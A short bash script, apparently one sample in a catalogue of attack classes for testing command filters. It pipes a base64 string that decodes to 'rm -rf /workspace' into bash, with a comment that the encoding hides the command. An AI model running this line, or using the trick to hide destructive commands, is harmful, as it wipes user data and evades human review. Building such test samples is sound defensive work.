#!/usr/bin/env bash
# attack-class: 19
# title: base64 -d | bash
# why: the payload is encoded so no command appears

echo 'cm0gLXJmIC93b3Jrc3BhY2UK' | base64 -d | bash
